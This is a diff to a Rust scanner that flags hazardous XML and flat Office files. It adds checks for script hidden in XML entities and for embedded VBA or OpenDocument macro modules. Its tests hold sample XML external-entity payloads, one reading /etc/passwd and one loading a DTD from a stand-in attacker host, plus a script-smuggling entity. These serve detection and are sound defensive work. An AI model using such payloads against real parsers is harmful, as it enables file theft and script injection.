@@ -21,7 +21,12 @@ const EXPANDED_BYTES_MAX: u64 = 4 << 20;
 pub fn inspect(data: &[u8], report: &mut dyn Report) {
     let text = lossy(data.get(..XML_BYTES_MAX.min(data.len())).unwrap_or_default());
     doctype(&text, report);
-    if contains_ignoring_case(data.get(..4096.min(data.len())).unwrap_or_default(), b"progid=\"") {
+    let head = data.get(..4096.min(data.len())).unwrap_or_default();
+    // `progid`: Word and Excel of 2003; the others name their own formats.
+    if [&b"progid=\""[..], b"/2006/xmlpackage", b"<office:document"]
+        .iter()
+        .any(|sign| contains_ignoring_case(head, sign))
+    {
         flat_office(&text, report);
     }
     script(&text, report);
@@ -41,10 +46,19 @@ pub fn doctype(text: &str, report: &mut dyn Report) {
     if let Some(external) = entities.iter().find(|entity| entity.external && !is_browsers_own(&entity.value)) {
         report.fact("files/xml-external-entity", cut(&external.value, 120));
     }
+    // A browser reads markup out of an entity as if it stood in the page.
+    if let Some(script) = entities.iter().find(|entity| !entity.external && holds_script(&entity.value)) {
+        report.fact("files/xml-script", cut(&script.value, 120));
+    }
     let size = expanded(&entities).max(repeated(text, &entities));
     if size > EXPANDED_BYTES_MAX {
         report.fact("files/xml-bomb", &format!("entities that expand to {size} bytes or more"));
     }
+}
+
+fn holds_script(value: &str) -> bool {
+    let plain = unescape(value).to_ascii_lowercase();
+    plain.contains("<script") || plain.contains("javascript:") || plain.contains(" onload=")
 }
 
 struct Entity<'a> {
@@ -168,6 +182,13 @@ fn flat_office(text: &str, report: &mut dyn Report) {
                 {
                     report.fact("files/office-macro", "flat Word document");
                 }
+                // A whole Word, Excel or OpenDocument file as one text.
+                let flat_part = local == "part"
+                    && attribute(raw, "pkg:name")
+                        .is_some_and(|part| part.to_ascii_lowercase().ends_with("vbaproject.bin"));
+                if flat_part || matches!(name, "ooo:module" | "script:module") && !closes {
+                    report.fact("files/office-macro", "flat Office document");
+                }
                 if local == "fldSimple" {
                     instruction.push_str(&unescape(attribute(raw, "w:instr").unwrap_or_default()));
                 }
@@ -241,6 +262,7 @@ mod tests {
     fn entities_from_elsewhere() {
         check("<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><l>&x;</l>", &["files/xml-external-entity"]);
         check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>%x;]><l/>", &["files/xml-external-entity"]);
+        check("<!DOCTYPE l [<!ENTITY x \"&#60;script>x&#60;/script>\">]><l>&x;</l>", &["files/xml-script"]);
         check("<!DOCTYPE l SYSTEM \"http://www.w3.org/x.dtd\"><l/>", &[]);
         check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'chrome://a/b.dtd'>%x;]><l/>", &[]);
         check("<!DOCTYPE l [<!ENTITY pic SYSTEM \"a.gif\" NDATA gif>]><l/>", &[]);
